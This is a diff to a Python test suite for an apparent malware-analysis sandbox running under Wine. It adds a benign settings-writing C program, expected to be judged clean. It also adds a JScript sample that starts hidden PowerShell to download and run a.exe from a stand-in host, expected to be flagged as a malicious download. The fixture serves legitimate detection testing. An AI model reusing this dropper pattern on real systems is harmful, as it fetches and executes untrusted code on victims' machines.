@@ -542,3 +542,54 @@ def test_a_program_that_runs_and_does_nothing_is_clean(tmp_path, wine_template):
 
     r = run_sample(tmp_path, STANDINS["pe_exe"][1], "Invoice_2024.exe", timeout_s=60)
     assert r["executed"] and r["verdict"] == "clean" and r["findings"] == [], r["findings"]
+
+
+SETTINGS = r"""
+#include <windows.h>
+#include <shlobj.h>
+#include <stdio.h>
+int main(void) {
+    char dir[MAX_PATH], ini[MAX_PATH + 32];
+    SHGetFolderPathA(NULL, CSIDL_APPDATA, NULL, 0, dir);
+    lstrcatA(dir, "\\ExampleVendor");
+    CreateDirectoryA(dir, NULL);
+    sprintf(ini, "%s\\settings.ini", dir);
+    WritePrivateProfileStringA("window", "width", "800", ini);
+    HKEY k;
+    if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\ExampleVendor\\Viewer", 0, NULL, 0, KEY_SET_VALUE, NULL, &k,
+                        NULL) == 0) {
+        RegSetValueExA(k, "LastOpened", 0, REG_SZ, (const BYTE *)"report.pdf", 11);
+        RegCloseKey(k);
+    }
+    printf("viewer 1.0: no file given\n");
+    return 0;
+}
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.slow
+@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
+def test_a_program_saving_its_settings_is_clean(tmp_path, wine_template):
+    r = run_sample(tmp_path, compile_pe(tmp_path, SETTINGS, "viewer", libs=("shell32",)), "viewer.exe", timeout_s=60)
+    assert r["executed"] and r["verdict"] == "clean", r["findings"]
+    assert any(e["value"] == "LastOpened" for e in events(r, "reg_set"))
+
+
+JS_POWERSHELL = r"""
+var sh = new ActiveXObject("WScript.Shell");
+var u = ["http://", "upd", ".example-cdn.test/", "a.exe"].join("");
+sh.Run("powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('" + u + "', $env:TEMP + '\\a.exe'); " +
+       "Start-Process $env:TEMP\\a.exe\"", 0, true);
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.slow
+@pytest.mark.skipif(WSH is not None, reason=f"Wine test unavailable: {WSH}")
+def test_jscript_starting_a_powershell_download_is_malicious(tmp_path, wine_template):
+    """Wine's powershell.exe is a stub: the command line it was started with is the evidence."""
+    r = run_sample(tmp_path, JS_POWERSHELL.encode(), "scan_0007.js", timeout_s=60, stop_on_malicious=False)
+    assert r["verdict"] == "malicious", r["findings"]
+    assert "lolbin_download" in ids(r)
+    assert "DownloadFile('http://upd.example-cdn.test/a.exe'" in detail(r, "lolbin_download")
